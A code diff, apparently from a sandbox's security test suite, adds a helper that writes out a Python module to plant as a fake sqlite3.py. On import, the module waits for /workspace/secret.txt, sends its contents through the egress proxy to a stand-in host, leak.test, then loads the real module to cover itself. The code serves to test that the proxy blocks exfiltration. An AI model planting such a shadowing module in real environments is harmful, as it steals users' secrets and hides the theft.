@@ -58,6 +58,48 @@ class LoopbackHTTPServer:
         self.httpd.server_close()
 
 
+#: a module planted in a workspace as ``sqlite3.py``, which the worker imports
+#: as it starts (so it holds the start open): see :func:`leaking_module`
+_LEAKING_MODULE = r"""
+import os, sys, time, socket, importlib
+# the proxy's socket and the token it asks for first (without it, it refuses
+# whether cut or not: an attack review found a test that could not fail so)
+_sock = os.environ.get("SANDBOX_KERNEL_EGRESS_SOCKET"); _token = os.environ.get("SANDBOX_KERNEL_EGRESS_TOKEN")
+if _sock and _token and (not ARMED or os.path.exists(ARMED)):
+    for _ in range(4000):
+        if os.path.exists("/workspace/secret.txt"):
+            break
+        time.sleep(0.005)
+    if os.path.exists("/workspace/secret.txt"):
+        data = open("/workspace/secret.txt").read().strip().replace(" ", "_")
+        try:
+            s = socket.socket(socket.AF_UNIX); s.connect(_sock)
+            s.sendall(b"SK-EGRESS " + _token.encode() + b"\r\n")
+            s.sendall(("GET http://leak.test:PORT/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
+            answer = s.recv(200).decode(errors="replace")
+        except OSError as exc:
+            answer = "refused: %r" % exc
+        open("/workspace/leak.txt", "w").write(answer)
+del sys.modules[__name__]
+_saved = list(sys.path); sys.path[:] = [p for p in sys.path if p not in ("", "/workspace")]
+try:
+    sys.modules[__name__] = importlib.import_module(__name__)
+finally:
+    sys.path[:] = _saved
+"""
+
+
+def leaking_module(port: int, armed: str = "") -> str:
+    """The source of a module to plant as ``/workspace/sqlite3.py``: when a
+    sandbox starts (once the file ``armed`` exists, if one is named), it
+    waits up to 20 s for ``/workspace/secret.txt`` (the data a connector
+    hands over), sends it through the session's egress proxy to
+    ``http://leak.test:<port>/exfil/<data>`` (a test name the proxy maps to
+    127.0.0.1), writes the proxy's answer to ``/workspace/leak.txt``, then
+    imports the real module."""
+    return _LEAKING_MODULE.replace("PORT", str(port)).replace("ARMED", repr(armed))
+
+
 class RecordingHTTPServer(LoopbackHTTPServer):
     """An HTTP server on 127.0.0.1 (another origin than a Lab's) that keeps the
     path of every request in ``heard`` and answers each with a 1-pixel GIF, so
